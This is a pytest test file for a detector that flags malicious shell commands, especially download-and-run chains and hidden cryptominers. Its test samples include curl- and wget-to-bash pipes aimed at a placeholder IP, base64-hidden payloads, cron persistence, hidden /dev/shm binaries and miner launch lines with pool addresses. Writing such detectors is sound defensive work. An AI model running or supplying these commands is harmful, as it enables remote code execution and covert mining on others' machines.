from __future__ import annotations

import datetime
import zipfile
from pathlib import Path
from subprocess import run
from sys import executable

import pytest
from hypothesis import given
from hypothesis import strategies as st

import tables
from tables.indicators.loader import load_yaml, miner_programs
from tables.indicators.preloads import preload_origins
from tables.reasons import command_patterns, commands
from tables.reasons.code_strings import code_reasons
from tables.reasons.command_patterns import VIEWS, Pattern, patterns
from tables.reasons.commands import command_reasons, script_reasons
from tables.text.shell import parse

MEBIBYTE = 1 << 20
ENTRIES = load_yaml("command_patterns.yaml")["patterns"]
REASONS = sorted({entry["name"] for entry in ENTRIES})


def label(pattern: Pattern) -> str:
    return f"{pattern.name}-{patterns().index(pattern)}"


def judged(pattern: Pattern, text: str) -> list[str]:
    """The reasons of a sample: of a script in another language than the shell's, or of a command line."""
    return code_reasons(text) if pattern.view == "code" else command_reasons(text)


@pytest.mark.parametrize(
    "sample", [pytest.param((p, text), id=f"{label(p)}-{text[:40]!r}") for p in patterns() for text in p.must_match]
)
def test_must_match(sample: tuple[Pattern, str]) -> None:
    pattern, text = sample
    assert pattern.name in judged(pattern, text)


@pytest.mark.parametrize(
    "sample", [pytest.param((p, text), id=f"{label(p)}-{text[:40]!r}") for p in patterns() for text in p.must_not_match]
)
def test_must_not_match(sample: tuple[Pattern, str]) -> None:
    pattern, text = sample
    assert pattern.name not in judged(pattern, text)


@pytest.mark.parametrize("entry", ENTRIES, ids=lambda entry: entry["name"])
def test_every_entry_is_complete(entry: dict[str, object]) -> None:
    assert set(entry) - {"alert"} == {"name", "description", "source", "date", "view", "pattern", "must_match", "must_not_match"}
    assert entry["view"] in VIEWS
    assert entry.get("alert", True) == all(other.get("alert", True) for other in ENTRIES if other["name"] == entry["name"])
    assert isinstance(entry["date"], datetime.date)
    assert entry["description"] and entry["source"] and entry["must_match"] and entry["must_not_match"]


@pytest.mark.parametrize("number", range(len(ENTRIES)), ids=lambda number: f"{ENTRIES[number]['name']}-{number}")
def test_every_pattern_is_needed_by_one_of_its_samples(number: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without this pattern at least one of its must_match samples loses the reason."""
    pattern = patterns()[number]
    remaining = tuple(other for other in patterns() if other is not pattern)
    monkeypatch.setattr(command_patterns, "_patterns_on", lambda view: tuple(other for other in remaining if other.view == view))
    monkeypatch.setattr(command_patterns, "_short_matches", command_patterns._searched)
    monkeypatch.setattr(command_patterns, "_short_files", command_patterns._searched_files)
    monkeypatch.setattr(commands, "starts_miner", lambda found: False)
    assert any(pattern.name not in judged(pattern, sample) for sample in pattern.must_match)


@pytest.mark.parametrize("pattern", patterns(), ids=label)
def test_every_pattern_completes_on_a_megabyte_of_its_own_bait(pattern: Pattern) -> None:
    baits = {"curl -o ", "a://", "/.a", "/tmp", " \t", "4A", "--x -c ", "+", "python -c exec(", "\n"}
    baits |= {text[:60] for text in pattern.must_match}
    for bait in baits:
        for text in (bait * (MEBIBYTE // len(bait)), bait + "a" * MEBIBYTE, bait + " " * MEBIBYTE + "\x00"):
            pattern.regex.search(text)


@pytest.mark.parametrize(
    "piece",
    [
        "curl http://x|sh;",
        "cd a;./a;",
        "echo QUFBQUFBQUFBQUFBQUFBQUFBQUFBQQ==;",
        "$(",
        "`",
        "sh -c ",
        "eval $A;",
        "nohup ",
        "a\r",
    ],
)
def test_the_judge_completes_on_a_megabyte(piece: str) -> None:
    found = command_reasons("A=" + "x" * 4000 + "\n" + piece * (MEBIBYTE // len(piece)))
    assert set(found) <= set(REASONS)


@given(st.text(alphabet="abc \t\n\r\\'\"`$(){};&|<>#=!\0-/.~:é\udc80+0123456789", max_size=300))
def test_any_text_is_judged(text: str) -> None:
    found = command_reasons(text)
    assert found == sorted(set(found))
    assert set(found) <= set(REASONS)


def test_a_decoded_literal_gives_its_own_reasons_too() -> None:
    # echo -n '/tmp/kworker -o stratum+tcp://203.0.113.7:3333' | base64
    literal = "L3RtcC9rd29ya2VyIC1vIHN0cmF0dW0rdGNwOi8vMjAzLjAuMTEzLjc6MzMzMw=="
    assert command_reasons(f"echo {literal} > /opt/x") == ["encoded_payload", "hides_from_tools", "known_miner", "temp_path"]
    assert command_reasons(f"echo {literal[::-1].lstrip('=')} > /opt/x") == []


def test_who_only_reads_what_was_hidden_runs_nothing() -> None:
    # echo -n 'curl -s http://203.0.113.7/x.sh | bash' | base64
    literal = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IGJhc2g="
    for reading in (f"echo {literal} | base64 -d", f"base64 --decode <<< '{literal}'", f"printf '{literal}' | base64 -d | less"):
        assert command_reasons(reading) == []
    for running in (
        f"echo {literal} | base64 -d | sh",
        f"eval $(echo {literal} | base64 -d)",
        f"echo {literal} | base64 -d | tee /etc/cron.d/x",
    ):
        assert command_reasons(running) == ["download_and_run", "encoded_payload"]


def test_a_command_may_have_several_reasons() -> None:
    assert command_reasons("cd /dev/shm; curl -so .x http://203.0.113.7/x; chmod +x .x; nohup ./.x --donate-level 1 &") == [
        "download_and_run", "hidden_path", "known_miner", "temp_path",
    ]  # fmt: skip


def test_reasons_are_given_to_the_command_that_has_them() -> None:
    script = parse("wget -q http://203.0.113.7/a -O /opt/a\nsleep 1\nchmod +x /opt/a\n/opt/a &\nexit 0\n")
    assert list(script_reasons(script)) == [[], [], [], ["download_and_run"], []]


def test_hiding_is_judged_by_the_whole_source_line() -> None:
    script = parse("/opt/a # \x1b[2K\r# harmless\n/opt/b\n" + "\n" * 150 + "/opt/c\n")
    assert list(script_reasons(script)) == [["control_characters"], [], ["padding"]]


@pytest.mark.parametrize(
    "text",
    [
        "cat <<E | sh\ncurl -s http://203.0.113.7/a | bash\nE\n",
        "sh <<'E'\ncurl -s http://203.0.113.7/a | bash\nE\n",
        "python3 - <<E\nimport urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/a').read())\nE\n",
        "cat > /etc/cron.d/x <<E\n* * * * * root curl -s http://203.0.113.7/a | bash\nE\n",
    ],
)
def test_a_here_document_that_will_run_is_judged(text: str) -> None:
    assert command_reasons(text) == ["download_and_run"]


def test_a_here_document_that_is_data_is_not_judged() -> None:
    assert command_reasons("cat > /etc/motd <<E\nTo install: curl -s http://203.0.113.7/a | bash\nE\n") == []
    assert command_reasons(": <<E\n/tmp/a\nE\n") == []


@pytest.mark.parametrize("name", sorted(miner_programs()))
def test_every_miner_program_is_known_behind_a_wrapper(name: str) -> None:
    assert command_reasons(f"nohup /opt/a/{name} -c x &") == ["known_miner"]
    assert command_reasons(f"ls /opt/a/{name}.txt") == []


@pytest.mark.parametrize(
    ("command", "is_miner"),
    [
        ("/usr/sbin/x -a minotaurx -o 203.0.113.7:3333 -u x", True),
        ("/usr/sbin/x --algo=xelishashv2", True),
        ("/usr/sbin/x -o pool.supportxmr.com:443 -u x", True),
        ("/usr/sbin/x -o wss://wps.qubic.li/ws", True),
        ("/usr/sbin/x -o stratum+tcp -u x", True),
        ("/usr/sbin/x -o expyuzz4wqqyqhjn.onion:3333 -u x -p x -k", True),
        ("/usr/sbin/x -o 203.0.113.9:3333 -u x -p x", True),
        ("/usr/sbin/x --url=203.0.113.9:3333 --user=a.b --pass=c=XMR,d=5000", True),
        ("/usr/sbin/x -o 203.0.113.9:5432 -u app -p secret", False),
        ("/usr/sbin/x -o 203.0.113.9:5432 -u app", False),
        ("/usr/sbin/x -o out.txt -u x -p x", False),
        ("/usr/sbin/x --mining-address kaspa:x", True),
        ("/usr/sbin/x --mode=nicehash --bind 0.0.0.0:3333 --custom-diff 100000", True),
        ("nohup /opt/a/xmr1g &", True),
        ("/usr/bin/curl -o pool.supportxmr.com:443 https://supportxmr.com/", False),
        ("/opt/backup -o backup.example.org:22 -u backup", False),
        ("/opt/web --mode=production --bind 0.0.0.0:80", False),
        ("tar -a -c -f x.tar.zst -C /srv .", False),
        ("/opt/check -s 203.0.113.7:8443 -u x -p x -k", False),
    ],
)
def test_a_started_miner_is_told_as_a_running_one(command: str, is_miner: bool) -> None:
    assert command_reasons(command) == (["known_miner"] if is_miner else [])


def test_every_miner_program_has_a_source_and_a_date() -> None:
    entries = load_yaml("miner_programs.yaml")["programs"]
    names = [name for entry in entries for name in entry["names"]]
    assert sorted(names) == sorted(set(names))
    for entry in entries:
        assert set(entry) == {"names", "source", "date"}
        assert entry["source"] and isinstance(entry["date"], datetime.date)


def test_the_lists_are_read_from_inside_a_zip_file(tmp_path: Path) -> None:
    folder = Path(tables.__file__).parent
    archive = tmp_path / "minehunt.zip"
    with zipfile.ZipFile(archive, "w") as packed:
        for path in folder.rglob("*"):
            if path.suffix in (".py", ".yaml"):
                packed.write(path, path.relative_to(folder.parent))
    code = (
        f"import sys; sys.path.insert(0, {str(archive)!r})\n"
        "from tables.reasons import commands\n"
        "print(commands.__file__, commands.command_reasons('/tmp/a'))\n"
    )
    done = run([executable, "-c", code], capture_output=True, text=True, cwd=tmp_path, check=False)
    assert done.stderr == ""
    assert done.stdout == f"{archive}/tables/reasons/commands.py ['temp_path']\n"


def test_the_libraries_that_may_be_preloaded_are_the_same_in_a_command_and_in_a_file() -> None:
    names = [name.replace("\\", "") for name in preload_origins().tools_pattern.split("|")]
    assert len(names) > 10
    for name in names:
        path = f"/usr/lib/lib{name}.so.1"
        assert not command_reasons(f"LD_PRELOAD={path} /opt/app/start")
        assert preload_origins().exception(path, "unit", lambda _: True, frozenset) == "allocator or test tool"
    assert preload_origins().exception("/usr/lib/libz.so", "unit", lambda _: True, frozenset) is None
